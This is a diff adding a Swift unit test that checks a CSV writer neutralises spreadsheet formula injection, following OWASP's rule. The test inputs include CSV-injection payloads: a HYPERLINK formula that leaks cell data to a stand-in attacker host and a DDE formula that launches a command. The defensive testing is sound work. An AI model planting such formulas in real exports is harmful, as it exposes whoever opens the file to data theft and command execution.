@@ -34,4 +34,17 @@ struct CSVWriterTests {
         #expect(table.rows.map(\.cells) == rows)
         #expect(table.rows.map(\.line) == [2, 3, 5])
     }
+
+    @Test func formulasAreNeutralizedAndNumbersKept() {
+        // OWASP's CSV injection rule: =, +, -, @, tab and carriage return at the start of a text field.
+        let cells = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "@SUM(1)", "+SUM(1+1)",
+                     "-2+3", "\tTAB", "\rCR", "-", "+", "=", "-5", "+7", "-12.50", "3.5", "0", "a=b", "پارک"]
+        let text = CSVWriter.write(header: ["cell"], rows: cells.map { [$0] })
+        let expected = "cell\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\n'=cmd|' /C calc'!A0\n'@SUM(1)\n'+SUM(1+1)\n"
+            + "'-2+3\n\"'\tTAB\"\n\"'\rCR\"\n'-\n'+\n'=\n-5\n+7\n-12.50\n3.5\n0\na=b\nپارک\n"
+        #expect(text == expected)
+        #expect(CSVWriter.write(header: ["cell"], rows: [["=1+1"]], formulas: .kept) == "cell\n=1+1\n")
+        #expect(CSVWriter.field("@x") == "'@x")
+        #expect(!CSVWriter.looksLikeFormula("-1.5") && CSVWriter.looksLikeFormula("-1.5.5") && CSVWriter.looksLikeFormula("-.5"))
+    }
 }
